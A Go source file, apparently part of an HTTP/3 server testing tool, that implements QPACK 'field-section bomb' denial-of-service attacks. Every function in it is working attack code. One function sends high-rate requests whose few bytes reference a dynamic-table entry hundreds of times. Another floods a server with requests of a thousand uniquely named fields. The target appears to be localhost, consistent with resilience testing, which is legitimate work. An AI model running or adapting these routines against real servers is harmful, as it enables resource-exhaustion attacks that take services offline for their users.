package attack

import (
	"strings"
	"time"

	"github.com/godwit-quic/godwit/internal/h3"
	"github.com/godwit-quic/godwit/internal/qpack"
)

var fieldRows = []Row{
	{Name: "cookie-bomb", Class: "H3 field-section bomb", run: fieldBomb("cookie", 1, 200),
		Does: "sends 200 requests a second, each a kilobyte that stands for 904 cookies"},
	{Name: "cookie-bomb-4", Class: "H3 field-section bomb", run: fieldBomb("cookie", 4, 300),
		Does: "the same 300 times a second on 4 connections"},
	{Name: "field-bomb", Class: "H3 field-section bomb", run: fieldBomb("x-bomb", 1, 200),
		Does: "sends 200 requests a second, each a kilobyte that stands for 904 fields of one name"},
	{Name: "field-names-bomb", Class: "H3 field-section bomb", run: manyNames,
		Does: "sends 200 requests a second with 1,000 fields, each of a name of its own"},
}

// bombFields is how many fields of 72 bytes, as they count, fit into the 64 KiB
// that a server takes.
const bombFields = 904

// fieldBomb puts one field into the dynamic table and refers to it as often as the
// limit of a header's size allows, by a byte each (RFC 9204, Section 7.3).
func fieldBomb(name string, connections, rate int) func(a *attacker) error {
	return func(a *attacker) error {
		conns, err := a.dialMany(connections, dialing{})
		if err != nil {
			return err
		}
		for _, c := range conns {
			c.window = lossy
			s := c.uni(h3.StreamQPACKEncoder)
			if s == nil {
				return errNoStream
			}
			s.write(append(capacity(4096), insertion(name, strings.Repeat("a", 34))...), false)
		}
		a.pause(100 * time.Millisecond)
		b, mark := h3.BeginHeaders(nil)
		b = append(b, 2, 0) // Required Insert Count 1, Base 1 (RFC 9204, Section 4.5.1)
		b = qpack.AppendField(b, ":method", "GET")
		b = qpack.AppendField(b, ":scheme", "https")
		b = qpack.AppendField(b, ":authority", "localhost")
		b = qpack.AppendField(b, ":path", "/hello")
		fields := min(bombFields, (64<<10-200)/(len(name)+34+qpack.FieldOverhead))
		b = append(b, strings.Repeat("\x80", fields)...)
		request := h3.EndHeaders(b, mark)
		a.begun()
		n := 0
		a.eachConn(rate, conns, func(c *conn) bool {
			if s, ok := c.open(false); ok {
				n++
				a.fields += fields
				s.write(request, true)
			}
			return true
		})
		a.notef("%d requests of %d bytes; %s", n, len(request), ends(conns))
		return nil
	}
}

// capacity sets the dynamic table's capacity (RFC 9204, Section 4.3.1), at least 31.
func capacity(n uint64) []byte { return prefixed(0x20, 5, n) }

// insertion inserts a field with a literal name (RFC 9204, Section 4.3.3).
func insertion(name, value string) []byte {
	b := append(prefixed(0x40, 5, uint64(len(name))), name...)
	return append(append(b, prefixed(0, 7, uint64(len(value)))...), value...)
}

// prefixed is an integer with a prefix of so many bits (RFC 7541, Section 5.1).
func prefixed(first byte, bits int, v uint64) []byte {
	most := uint64(1)<<bits - 1
	if v < most {
		return []byte{first | byte(v)}
	}
	b := []byte{first | byte(most)}
	for v -= most; v >= 0x80; v >>= 7 {
		b = append(b, 0x80|byte(v))
	}
	return append(b, byte(v))
}

func manyNames(a *attacker) error {
	c, err := a.dial(dialing{})
	if err != nil {
		return err
	}
	c.window = 512
	fields := []string{}
	for i := range 1000 {
		fields = append(fields, "x-"+string([]byte{'a' + byte(i%26), 'a' + byte(i/26%26), 'a' + byte(i/676)})+"=")
	}
	request := getRequest("/hello", fields...)
	a.begun()
	n := 0
	a.eachConn(200, []*conn{c}, func(c *conn) bool {
		if s, ok := c.open(false); ok && s.room(len(request)) {
			n++
			a.fields += len(fields)
			s.write(request, true)
		}
		return true
	})
	a.notef("%d requests of %d bytes; %s", n, len(request), ends([]*conn{c}))
	return nil
}
